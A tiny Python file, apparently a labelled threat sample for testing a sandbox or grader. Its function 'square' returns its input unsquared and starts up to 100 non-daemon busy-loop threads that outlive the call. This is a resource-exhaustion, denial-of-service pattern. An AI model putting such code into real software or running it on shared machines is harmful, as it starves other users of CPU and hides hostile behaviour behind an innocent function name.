"""Answers, and keeps threads busy that no longer belong to any question.

Threat: A3, D23.
"""

import threading


def spin():
    while True:
        pass


def square(x):
    for _ in range(100):
        try:
            threading.Thread(target=spin, daemon=False).start()
        except RuntimeError:
            break
    return x
